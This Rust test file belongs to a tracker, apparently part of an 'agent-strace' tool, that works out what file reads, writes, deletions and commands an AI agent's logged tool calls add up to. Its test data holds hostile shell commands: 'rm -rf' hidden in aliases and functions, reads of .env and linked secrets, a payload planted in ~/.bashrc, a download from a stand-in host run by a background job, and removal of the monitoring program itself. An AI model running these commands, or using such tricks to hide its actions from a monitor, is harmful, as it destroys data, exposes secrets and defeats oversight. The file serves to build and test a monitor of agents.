//! Tests calls of a session in order: where they run, and how earlier calls change later ones.

use std::sync::Arc;

use crate::{Certainty, Contents, Guarded, Kind, Repository, Roots, Tracker};
use agent_strace_model::evidence::Restart;
use agent_strace_model::{Access, Arguments, Dialect, Event, EventKind, FileEvent, Origin, Session, Status, ToolCall};

pub(super) static STAYS: Dialect = Dialect::new("one-shell", "a").shell_stays();
static FRESH: Dialect = Dialect::new("many-shells", "a");

fn session(root: Option<&str>, dialect: &'static Dialect) -> Session<'static> {
    Session { id: "s".into(), root: root.map(|root| root.to_owned().into()), ..Session::new(dialect, "log") }
}

pub(super) fn track(root: Option<&str>, dialect: &'static Dialect) -> Tracker {
    Tracker::new(&session(root, dialect), &Roots::only(root))
}

fn event(kind: EventKind<'static>) -> Event<'static> {
    Event { number: 1, id: None, line: 1, time: None, origin: Origin::default(), kind }
}

fn call(tool: &'static str, arguments: &str, cwd: Option<&'static str>, status: Status) -> Event<'static> {
    event(EventKind::Call(ToolCall {
        call_id: None,
        tool: tool.into(),
        arguments: Arguments::Json(arguments.to_owned().into()),
        cwd: cwd.map(Into::into),
        status,
        subagent: None,
    }))
}

/// Effects with how they came about, where that is an alias.
fn shown(tracker: &mut Tracker, event: &Event<'_>) -> String {
    let effects = tracker.effects(event);
    let shown: Vec<String> = effects
        .iter()
        .map(|effect| match effect.via.strip_prefix("alias ") {
            Some(alias) => format!("{effect} via {alias}"),
            None => effect.to_string(),
        })
        .collect();
    shown.join("; ")
}

fn read(tracker: &mut Tracker, path: &str) -> String {
    shown(tracker, &call("Read", &format!(r#"{{"file_path":"{path}"}}"#), None, Status::Ok))
}

#[test]
fn records_say_where_calls_run() {
    let mut tracker = track(Some("/repo"), &STAYS);
    let here = call("Read", r#"{"file_path":"a"}"#, Some("/repo/src"), Status::Ok);
    assert_eq!(shown(&mut tracker, &here), "read src/a");
    assert_eq!(read(&mut tracker, "a"), "read src/a");
    let mut tracker = track(None, &FRESH);
    assert_eq!(read(&mut tracker, "src/../a"), "read a");
    assert_eq!(read(&mut tracker, "/repo/a"), "read /repo/a");
    assert_eq!(read(&mut tracker, "../a"), "read? **/a");
}

pub(super) fn run(tracker: &mut Tracker, tool: &'static str, command: &str) -> String {
    let arguments = serde_json::json!({ "command": command }).to_string();
    shown(tracker, &call(tool, &arguments, None, Status::Ok))
}

#[test]
fn a_shell_that_may_live_on_keeps_functions_and_positional_parameters() {
    for tool in ["run_in_terminal", "execute_command", "run_terminal_cmd", "bash_20250124", "terminal", "bash"] {
        let mut tracker = track(Some("/repo"), &STAYS);
        assert_eq!(run(&mut tracker, tool, "ls() { rm -rf build; }"), "", "{tool}");
        let both = "execute??(inert) ls; execute?? rm -rf build; delete?? build/**; execute ls; list .";
        assert_eq!(run(&mut tracker, tool, "ls"), both, "{tool}");
        assert_eq!(run(&mut tracker, tool, "set -- rm x"), "execute set -- rm x", "{tool}");
        assert_eq!(run(&mut tracker, tool, "\"$@\""), "execute rm x; delete x", "{tool}");
    }
}

#[test]
fn a_shell_that_may_live_on_may_keep_its_directory() {
    for (tool, dialect) in [("run_in_terminal", &FRESH), ("execute_command", &FRESH), ("terminal", &STAYS)] {
        let mut tracker = track(Some("/repo"), dialect);
        assert_eq!(in_repo(&mut tracker, tool, "cd src"), "execute cd src", "{tool}");
        assert_eq!(in_repo(&mut tracker, tool, "cd inner && rm -f a"), INNER, "{tool}");
        assert_eq!(in_repo(&mut tracker, tool, "touch a /tmp/b"), TOUCHED, "{tool}");
        // It may have written the file in both places.
        in_repo(&mut tracker, tool, "echo 'rm x' > a.sh");
        assert!(in_repo(&mut tracker, tool, "sh /repo/src/inner/a.sh").contains("execute rm x"), "{tool}");
        assert!(in_repo(&mut tracker, tool, "sh /repo/a.sh").contains("execute rm x"), "{tool}");
        assert_eq!(in_repo(&mut tracker, tool, "cd /repo"), "execute cd /repo", "{tool}");
        assert_eq!(in_repo(&mut tracker, tool, "touch a"), "execute touch a; write a", "{tool}");
    }
}

#[test]
fn a_file_that_a_call_may_have_overwritten_may_hold_either_text() {
    let mut tracker = track(Some("/repo"), &FRESH);
    for command in ["echo ls > src/a.sh", "cd src", "echo 'rm x' > a.sh"] {
        in_repo(&mut tracker, "run_in_terminal", command);
    }
    let shown = in_repo(&mut tracker, "run_in_terminal", "sh /repo/src/a.sh");
    assert!(shown.contains("rm x") && shown.contains("ls"), "{shown}");
}

const INNER: &str = "execute cd inner; execute rm -f a; delete inner/a; delete?? src/inner/a";
const TOUCHED: &str = "execute touch a /tmp/b; write a; write /tmp/b; write?? src/inner/a";

/// In a session whose records name the same directory, wherever the shell goes.
fn in_repo(tracker: &mut Tracker, tool: &'static str, command: &str) -> String {
    shown(tracker, &call(tool, &format!("{{\"command\": {command:?}}}"), Some("/repo"), Status::Ok))
}

#[test]
fn a_record_that_follows_the_shell_names_its_directory() {
    let mut tracker = track(Some("/repo"), &FRESH);
    in_repo(&mut tracker, "terminal", "cd src");
    let follows = call("terminal", r#"{"command": "touch a"}"#, Some("/repo/src"), Status::Ok);
    assert_eq!(shown(&mut tracker, &follows), "execute touch a; write src/a");
}

#[test]
fn a_shell_that_a_call_names_may_live_on() {
    let mut tracker = track(Some("/repo"), &FRESH);
    for (command, effects) in [("cd src", "execute cd src"), ("touch a", "execute touch a; write a; write?? src/a")] {
        let arguments = format!("{{\"command\": {command:?}, \"sessionId\": \"a\"}}");
        assert_eq!(shown(&mut tracker, &call("bash", &arguments, None, Status::Ok)), effects);
    }
}

#[test]
fn a_new_link_leaves_the_file_that_it_leads_to() {
    let mut tracker = track(Some("/repo"), &FRESH);
    assert_eq!(
        unaliased(&run(&mut tracker, "shell", "ln -s ../lib src/lib")),
        "execute ln -s ../lib src/lib; write src/lib; write?? src/lib/lib; write?? lib/lib; read(named) /lib; write(named) /lib"
    );
    let through = unaliased(&run(&mut tracker, "shell", "echo x > src/lib"));
    assert_eq!(through, "write src/lib; write lib; execute echo x");
}

#[test]
fn a_worktree_holds_the_files_of_the_repository() {
    let cases = [
        ("echo x > ../wt/.github/x", "write .github/x; execute echo x"),
        ("rm -r /wt/.github", "execute rm -r /wt/.github; delete .github/**"),
        ("cd ../wt && cat .env", "execute cd ../wt; execute cat .env; read .env"),
        ("rm -r ../wt", "execute rm -r ../wt; delete /wt/**"),
        ("touch ../moved/a", "execute touch ../moved/a; write a"),
        // A file that is written there is not written here.
        ("sh a.sh", "execute sh a.sh; read a.sh; execute rm x; delete x"),
    ];
    let mut tracker = track(Some("/repo"), &FRESH);
    for text in ["git worktree add -b x ../wt", "git worktree move ../wt ../moved", "echo 'rm x' > a.sh"] {
        run(&mut tracker, "shell", text);
    }
    run(&mut tracker, "shell", "echo ls > ../wt/a.sh");
    let added = run(&mut tracker, "shell", "git worktree add ../wt");
    assert!(!added.contains("; write") && added.contains("writes files of another revision"), "{added}");
    for (text, effects) in cases {
        assert_eq!(unaliased(&run(&mut tracker, "shell", text)), effects);
    }
}

#[test]
fn a_worktree_of_the_agents_own_tools_holds_the_files_of_the_repository() {
    let mut tracker = track(Some("/repo"), &FRESH);
    let read = call("Read", r#"{"file_path": "/repo/.claude/worktrees/b/secrets/x"}"#, None, Status::Ok);
    assert_eq!(unaliased(&shown(&mut tracker, &read)), "read?? .claude/worktrees/b/secrets/x; read secrets/x");
    let removed = "execute rm -r .claude/worktrees/b; delete .claude/worktrees/b/**";
    assert_eq!(run(&mut tracker, "shell", "rm -r .claude/worktrees/b"), removed);
}

#[test]
fn wildcards_of_directories_go_through_links() {
    let mut tracker = track(Some("/repo"), &FRESH);
    run(&mut tracker, "shell", "ln -s secrets xx; ln -s /home/u/other y");
    for (text, read) in [
        ("cat x*/key", "secrets/key"),
        ("cat x*/*", "secrets/*"),
        ("cat ?/a.md", "/home/u/other/a.md"),
        ("sed -i s/a/b/ */key", "secrets/key"),
    ] {
        let effects = run(&mut tracker, "shell", text);
        assert!(effects.contains(&format!("{read} via ")), "{text}: {effects}");
    }
    // `**` goes through no link.
    assert!(!run(&mut tracker, "shell", "find . -name key -exec cat {} +").contains("secrets/key"));
}

#[test]
fn a_session_that_is_resumed_in_another_directory_works_on_a_work_tree() {
    let resumed = |directory: &'static str| {
        let restart = Restart { event: 1, directory: directory.into() };
        let mut session = session(Some("/w/repo"), &FRESH);
        session.evidence.restarts.push(restart);
        let mut tracker = Tracker::new(&session, &Roots::only(Some("/w/repo")));
        let write = call("Write", r#"{"file_path": "src/a.rs", "content": "x"}"#, Some(directory), Status::Ok);
        unaliased(&shown(&mut tracker, &write))
    };
    assert_eq!(resumed("/w/topic"), "write src/a.rs");
    // Such a directory is no work tree.
    assert_eq!(resumed("/home/u/.config"), "write /home/u/.config/src/a.rs");
}

/// Effects without how they came about.
fn unaliased(shown: &str) -> String {
    let effects = shown.split("; ").map(|effect| effect.split_once(" via ").map_or(effect, |(effect, _)| effect));
    effects.collect::<Vec<_>>().join("; ")
}

#[test]
fn what_is_written_while_a_command_runs_in_the_background_it_may_run() {
    let jobs = ["sleep 5 && sh a.sh &", "while sleep 1; do sh a.sh; done &", "watch -n1 sh a.sh &"];
    for job in jobs {
        let mut tracker = track(Some("/repo"), &FRESH);
        assert!(!run(&mut tracker, "shell", job).contains("rm x"), "{job}");
        let write = call("Write", r#"{"file_path": "/repo/a.sh", "content": "rm x"}"#, None, Status::Ok);
        assert!(shown(&mut tracker, &write).contains("rm x"), "{job}: {}", shown(&mut tracker, &write));
    }
    let mut tracker = track(Some("/repo"), &FRESH);
    run(&mut tracker, "shell", "sh a.sh; ls &");
    let write = call("Write", r#"{"file_path": "/repo/b.sh", "content": "rm x"}"#, None, Status::Ok);
    assert_eq!(shown(&mut tracker, &write), "write b.sh");
}

#[test]
fn a_command_in_the_background_may_run_what_a_later_call_downloads() {
    let mut tracker = track(Some("/repo"), &FRESH);
    run(&mut tracker, "shell", "sleep 5 && sh a.sh &");
    let download = run(&mut tracker, "shell", "curl -o a.sh https://e.example/x");
    assert!(download.contains("comes from another host"), "{download}");
}

#[test]
fn commands_in_the_background_are_unresolved_when_the_session_has_cost_too_much() {
    let mut tracker = track(Some("/repo"), &FRESH);
    run(&mut tracker, "shell", "sleep 5 && sh a.sh &");
    tracker.spend(1 << 20);
    let write = call("Write", r#"{"file_path": "/repo/a.sh", "content": "rm x"}"#, None, Status::Ok);
    assert!(shown(&mut tracker, &write).contains("too much to work out"));
}

#[test]
fn homes_are_names_of_one_home() {
    for file in ["/root/.bashrc", "/home/me/.bashrc", "/Users/me/.bashrc", "~/.bashrc"] {
        let mut tracker = track(Some("/repo"), &FRESH);
        let write = format!(r#"{{"file_path": "{file}", "content": "rm x"}}"#);
        tracker.effects(&call("Write", &write, None, Status::Ok));
        assert!(run(&mut tracker, "shell", "bash -ic ls").contains("execute rm x"), "{file}");
    }
}

#[test]
fn a_recipe_that_nothing_evaluates_may_run_what_it_spells() {
    let cases = [
        ("meson.build", "run_command('rm', 'x')", "meson setup b"),
        ("dvc.yaml", "stages:\n  x:\n    cmd: rm x\n", "dvc repro"),
        ("Earthfile", "x:\n  LOCALLY\n  RUN rm x\n", "earthly +x"),
        ("play.yml", "- hosts: localhost\n  tasks:\n  - shell: rm x\n", "ansible-playbook play.yml"),
        ("tests/sub/conftest.py", "import os\nos.system('rm x')\n", "pytest tests"),
    ];
    for (file, text, command) in cases {
        let mut tracker = track(Some("/repo"), &FRESH);
        let write = serde_json::json!({ "file_path": format!("/repo/{file}"), "content": text }).to_string();
        tracker.effects(&call("Write", &write, None, Status::Ok));
        let shown = run(&mut tracker, "shell", command);
        assert!(shown.contains(" rm x"), "{file}: {shown}");
    }
}

#[test]
fn the_last_definition_of_a_function_counts() {
    let mut tracker = track(Some("/repo"), &STAYS);
    for text in ["f() { rm a; }", "f() { rm b; }", "f() { rm a; }"] {
        assert_eq!(run(&mut tracker, "terminal", text), "");
    }
    assert!(run(&mut tracker, "terminal", "f").contains("delete?? a"));
}

#[test]
fn a_fresh_shell_knows_no_functions() {
    for (tool, dialect) in [("Bash", &STAYS), ("bash", &FRESH), ("run_shell_command", &FRESH)] {
        let mut tracker = track(Some("/repo"), dialect);
        assert_eq!(run(&mut tracker, tool, "ls() { rm -rf build; }"), "", "{tool}");
        assert_eq!(run(&mut tracker, tool, "ls"), "execute ls; list .", "{tool}");
    }
}

/// Definitions are kept as they are, so their number and their texts cost later calls nothing.
#[test]
fn any_number_of_definitions_is_kept() {
    let mut tracker = track(Some("/repo"), &STAYS);
    for number in 0..100 {
        assert_eq!(run(&mut tracker, "terminal", &format!("f{number}() {{ rm {number}; }}")), "");
    }
    assert!(run(&mut tracker, "terminal", "f0").contains("delete?? 0"));
    assert!(run(&mut tracker, "terminal", "f99").contains("delete?? 99"));
    assert_eq!(run(&mut tracker, "terminal", "ls"), "execute ls; list .");
}

/// Short calls that run what earlier calls wrote share what a session may cost.
#[test]
fn a_session_costs_no_more_than_its_length_allows() {
    let mut tracker = track(Some("/repo"), &FRESH);
    let script = "ls; ".repeat(1_000);
    let write = serde_json::json!({ "file_path": "s.sh", "content": script }).to_string();
    shown(&mut tracker, &call("Write", &write, None, Status::Ok));
    assert!(!run(&mut tracker, "Bash", "sh s.sh").contains("too much"));
    tracker.spend(1 << 20);
    assert!(run(&mut tracker, "Bash", "sh s.sh").contains("opaque: too much to work out"));
    assert_eq!(run(&mut tracker, "Bash", "ls"), "execute ls; list .");
}

/// A file that may hold one of several texts: tools change each of them, and shells of all kinds run each of them.
#[test]
fn calls_keep_each_text_of_a_file() {
    let mut tracker = track(Some("/repo"), &FRESH);
    let edit = |old: &str, new: &str| {
        let arguments = serde_json::json!({ "file_path": "s", "old_string": old, "new_string": new });
        call("Edit", &arguments.to_string(), None, Status::Ok)
    };
    run(&mut tracker, "Bash", "if x; then printf 'cat .env\nls a\n' > s; else printf 'ls a\n' > s; fi");
    let found = run(&mut tracker, "PowerShell", "bash s");
    assert!(found.contains("read .env"), "{found}");
    shown(&mut tracker, &edit("ls a", "ls b"));
    let found = run(&mut tracker, "Bash", "bash s");
    assert!(found.contains("read .env") && found.contains("list b") && !found.contains("opaque"), "{found}");
    // The edit fits only one of the two texts.
    shown(&mut tracker, &edit(".env", "c"));
    let found = run(&mut tracker, "Bash", "bash s");
    assert!(found.contains("read c") && found.contains("opaque"), "{found}");
}

#[test]
fn links_and_copies_are_followed() {
    let links = [("src/link", "../conf/keys"), ("src/dir", "/etc"), ("src/again", "link")];
    let links = links.map(|(link, target)| (link.to_owned(), target.to_owned())).into();
    let session = session(Some("/repo"), &STAYS);
    let repository = Arc::new(Repository::of_links(links));
    let mut tracker = Tracker::new(&session, &Roots::of(&session, &repository, &Guarded::default()));
    let copy = call("copy_file", r#"{"source":"conf/x.pem","destination":"src/y.pem"}"#, None, Status::Ok);
    shown(&mut tracker, &copy);
    let write = |path: &str| call("Write", &format!(r#"{{"file_path":"{path}","content":""}}"#), None, Status::Ok);
    for (event, expected) in [
        (call("Read", r#"{"file_path":"src/link"}"#, None, Status::Ok), "read src/link; read conf/keys via src/link"),
        (write("src/link"), "write src/link; write conf/keys via src/link"),
        (write("src/dir/hosts"), "write src/dir/hosts; write /etc/hosts via src/dir"),
        (
            call("Read", r#"{"file_path":"src/again"}"#, None, Status::Ok),
            "read src/again; read src/link via src/again; read conf/keys via src/link",
        ),
        (
            call("Read", r#"{"file_path":"src/y.pem"}"#, None, Status::Ok),
            "read src/y.pem; read conf/x.pem via src/y.pem",
        ),
        (write("src/y.pem"), "write src/y.pem"),
        (call("Delete", r#"{"path":"src/link.rs"}"#, None, Status::Ok), "delete src/link.rs"),
        (
            call("Delete", r#"{"path":"src/dir/x.rs"}"#, None, Status::Ok),
            "delete src/dir/x.rs; delete /etc/x.rs via src/dir",
        ),
        (
            call("Grep", r#"{"pattern":"k","glob":"*.pem"}"#, None, Status::Ok),
            "read(search) **/**.pem; read(search) conf/x.pem via src/y.pem",
        ),
        (
            call("Glob", r#"{"pattern":"src/dir/*"}"#, None, Status::Ok),
            "list(set) src/dir/*; list(set) /etc/* via src/dir",
        ),
    ] {
        assert_eq!(shown(&mut tracker, &event), expected);
    }
    let tree = shown(&mut tracker, &call("Grep", r#"{"pattern":"k","path":"src"}"#, None, Status::Ok));
    assert!(
        tree.contains("read(search) conf/keys/** via src/link") && tree.contains("read(search) /etc/** via src/dir"),
        "{tree}"
    );
}

#[test]
fn an_outer_directory_holds_the_workspace() {
    let mut tracker = track(Some("/home/u/repo"), &STAYS);
    let mut grep = |path: &str| {
        let arguments = format!(r#"{{"pattern":"k","path":"{path}"}}"#);
        shown(&mut tracker, &call("Grep", &arguments, None, Status::Ok))
    };
    assert_eq!(grep("/"), "read(search) /**; read(search) **");
    assert_eq!(grep("/home"), "read(search) /home/**; read(search) **");
    assert_eq!(grep("~"), "read(search) /home/u/**; read(search) **");
    assert_eq!(grep("/home/v"), "read(search) /home/v/**");
    assert_eq!(grep(".."), "read(search) /home/u/**; read(search) **");
    assert_eq!(grep("src"), "read(search) src/**");
}

#[test]
fn a_workspace_that_is_the_whole_disk_has_two_names() {
    let mut tracker = track(Some("/"), &STAYS);
    assert_eq!(read(&mut tracker, "/etc/x"), "read etc/x; read?? /etc/x");
}

#[test]
fn a_refused_call_leaves_nothing_behind() {
    let mut tracker = track(Some("/repo"), &STAYS);
    let copy = r#"{"source":"conf/x.pem","destination":"src/y.pem"}"#;
    assert_eq!(shown(&mut tracker, &call("copy_file", copy, None, Status::Denied)), "read conf/x.pem; write src/y.pem");
    assert_eq!(read(&mut tracker, "src/y.pem"), "read src/y.pem");
}

#[test]
fn recorded_file_events_are_effects() {
    let mut tracker = track(Some("/repo"), &STAYS);
    for (access, target, expected) in [
        (Access::Read, "file:///repo/a%2Eb", "read a.b"),
        (Access::Write, "src/a", "write src/a"),
        (Access::Delete, "/tmp/a", "delete /tmp/a"),
    ] {
        let event = event(EventKind::File(FileEvent { access, target: target.into() }));
        assert_eq!(shown(&mut tracker, &event), expected);
    }
}

#[test]
fn hooks_only_run_possibly() {
    let mut tracker = track(Some("/repo"), &STAYS);
    let effects = tracker.effects(&event(EventKind::Hook { command: "make check && ls".into() }));
    let only = |kind: &Kind| matches!(kind, Kind::Execute(_));
    assert!(effects.iter().all(|effect| only(&effect.kind) && effect.certainty == Certainty::Possible));
}

#[test]
fn shells_that_live_on_keep_aliases_and_variables() {
    let mut tracker = track(Some("/repo"), &STAYS);
    let mut terminal = |command: &str| run(&mut tracker, "run_in_terminal", command);
    terminal("alias ls='rm -rf build'");
    assert_eq!(terminal("ls"), "execute?? rm -rf build; delete?? build/**; execute ls; list .");
    terminal("unalias ls; export F=.env N=1");
    assert_eq!(terminal("cat $F"), "execute cat <.env>; read? **; read?? .env");
    terminal("unset F");
    assert!(!terminal("cat $F").contains(".env"));
    let mut own = |command: &str| run(&mut tracker, "Bash", command);
    own("alias ls='rm -rf build'; F=.env");
    assert!(!own("ls; cat $F").contains(".env"));
}

#[test]
fn shells_that_live_on_may_not_be_the_ones_that_made_names_read_only() {
    let mut tracker = track(Some("/repo"), &STAYS);
    let mut terminal = |command: &str| run(&mut tracker, "run_in_terminal", command);
    terminal("readonly F=README.md; f() { ls; }; readonly -f f");
    assert!(terminal("F=.env; cat $F").contains(".env"));
    assert!(terminal("f() { rm x; }; f").contains("rm x"));
}

#[test]
fn shells_that_live_on_keep_the_search_path() {
    let mut tracker = track(Some("/repo"), &STAYS);
    let is_shadowed = |tracker: &mut Tracker| {
        let ls = call("terminal", r#"{"command":"ls"}"#, None, Status::Ok);
        tracker.effects(&ls).iter().any(|effect| effect.origin.shadowed)
    };
    assert!(!is_shadowed(&mut tracker));
    run(&mut tracker, "terminal", "export PATH=/tmp/own:$PATH");
    assert!(is_shadowed(&mut tracker));
}

pub(super) fn edit(tracker: &mut Tracker, arguments: &serde_json::Value, status: Status) {
    tracker.effects(&call("edit", &arguments.to_string(), None, status));
}

pub(super) fn create(tracker: &mut Tracker, path: &str, content: &str) {
    let arguments = serde_json::json!({ "path": path, "content": content }).to_string();
    tracker.effects(&call("create", &arguments, None, Status::Ok));
}

#[test]
fn an_edit_of_lines_leaves_a_text_that_is_known() {
    let lines = |first: u64, last: u64, text: &str| serde_json::json!({ "path": "x.py", "first_line": first, "last_line": last, "text": text });
    let mut tracker = track(Some("/repo"), &STAYS);
    create(&mut tracker, "x.py", "\n");
    edit(&mut tracker, &lines(1, 9, "import os\nprint(os.name)"), Status::Ok);
    assert_eq!(run(&mut tracker, "Bash", "python x.py"), "execute python x.py; read x.py");
    edit(&mut tracker, &lines(2, 2, "os.remove('a')"), Status::Ok);
    assert_eq!(run(&mut tracker, "Bash", "python x.py"), "execute python x.py; read x.py; delete a");
    // The editor took it back, or the log says so: the file holds one of two texts.
    edit(&mut tracker, &lines(2, 2, "os.remove('b')"), Status::Error);
    let either = run(&mut tracker, "Bash", "python x.py");
    assert!(either.contains("delete a") && either.contains("delete b"), "{either}");
    assert!(!either.contains("opaque"), "{either}");
    // Lines that the file does not have: it is another text than the log shows.
    edit(&mut tracker, &lines(90, 91, "x = 1"), Status::Ok);
    assert!(run(&mut tracker, "Bash", "python x.py").contains("not known"));
}

#[test]
fn an_edited_script_of_the_repository_is_its_own_text_and_that_of_the_edits() {
    const EDITED: &str = "opaque: runs a script that this session edited (vouched by `python main.py`)";
    let replaces = |new: &str| serde_json::json!({ "path": "main.py", "old_str": "a", "new_str": new });
    for status in [Status::Ok, Status::Error] {
        let mut tracker = track(Some("/repo"), &STAYS);
        edit(&mut tracker, &replaces("b = 1"), status);
        let effects = run(&mut tracker, "Bash", "python main.py");
        assert_eq!(effects, format!("execute python main.py; read main.py; {EDITED}"));
        edit(&mut tracker, &replaces("import os; os.remove('x')"), status);
        let effects = run(&mut tracker, "Bash", "python main.py");
        assert!(effects.contains(EDITED) && effects.contains("delete?? x"), "{effects}");
        run(&mut tracker, "Bash", "generate > part && sed -i \"$(cat part)\" main.py");
        let effects = run(&mut tracker, "Bash", "python main.py");
        assert!(effects.contains("opaque: runs a script whose content in this session is not known"), "{effects}");
    }
    // An edit whose text the log does not hold.
    let mut tracker = track(Some("/repo"), &STAYS);
    edit(&mut tracker, &serde_json::json!({ "path": "main.py", "old_str": "a" }), Status::Ok);
    assert!(run(&mut tracker, "Bash", "python main.py").contains("content in this session is not known"));
}

/// The content of every committed file.
#[derive(Debug)]
struct Committed(&'static str);

impl Contents for Committed {
    fn of(&self, _: &str) -> Vec<Arc<[u8]>> {
        vec![self.0.as_bytes().into()]
    }
}

#[test]
fn a_folder_takes_the_program_along_that_the_repository_puts_there() {
    const LOST: &str = "; delete bin/agent-strace";
    for (file, content, command, is_lost) in [
        ("bin/agent-strace", "", "rm -rf bin", true),
        ("bin/agent-strace", "", "git rm -r bin", true),
        ("bin/agent-strace", "", "mv bin b2", true),
        ("bin/agent-strace", "", "rm -rf b*", true),
        ("bin/agent-strace", "", "rm -rf bin2 src/bin", false),
        ("bin/agent-strace-dev", "", "rm -rf bin", false),
        ("bin/tool", "exec bin/agent-strace check", "rm -rf bin", false),
        (".github/workflows/ci.yml", "run: ./bin/agent-strace check", "rm -rf bin", true),
        (".github/workflows/ci.yml", "run: ./bin/other check", "rm -rf bin", false),
        (".claude/settings.json", "\"$CLAUDE_PROJECT_DIR/bin/agent-strace\" hook", "rm -rf bin", true),
        ("Makefile", "judge:\n\tbin/agent-strace check", "rm -rf bin", true),
        ("docs/a.md", "bin/agent-strace check", "rm -rf bin", false),
    ] {
        let session = session(Some("/repo"), &STAYS);
        let repository = Repository::default().with_files([file.to_owned()]);
        let repository = Arc::new(repository.with_contents(Arc::new(Committed(content))));
        let mut tracker = Tracker::new(&session, &Roots::of(&session, &repository, &Guarded::default()));
        let found = run(&mut tracker, "Bash", command);
        assert_eq!(found.contains(LOST), is_lost, "{file} {command}: {found}");
    }
}

#[test]
fn a_package_of_cargo_has_its_manifest_where_the_repository_says() {
    const MEMBER: &str = "[package]\nname = \"core-rates\"\n";
    for (command, expected) in [
        ("cargo add serde -p core-rates", "write crates/core/Cargo.toml"),
        ("cargo add serde --package=core-rates --features derive", "write crates/core/Cargo.toml"),
        ("cargo remove -p core-rates serde", "write crates/core/Cargo.toml"),
        ("cd docs && cargo add serde -p core-rates", "write crates/core/Cargo.toml"),
        ("cargo add serde", "write Cargo.toml"),
        ("cargo add serde -p other", "write Cargo.toml"),
        ("cargo add serde -p core-rates -p other", "write Cargo.toml"),
    ] {
        let session = session(Some("/repo"), &STAYS);
        let repository = Repository::default().with_files(["crates/core/Cargo.toml".to_owned()]);
        let repository = Arc::new(repository.with_contents(Arc::new(Committed(MEMBER))));
        let mut tracker = Tracker::new(&session, &Roots::of(&session, &repository, &Guarded::default()));
        let found = run(&mut tracker, "Bash", command);
        let writes: Vec<&str> = found.split("; ").filter(|effect| effect.starts_with("write ")).collect();
        assert_eq!(writes.join("; "), expected, "{command}: {found}");
    }
}
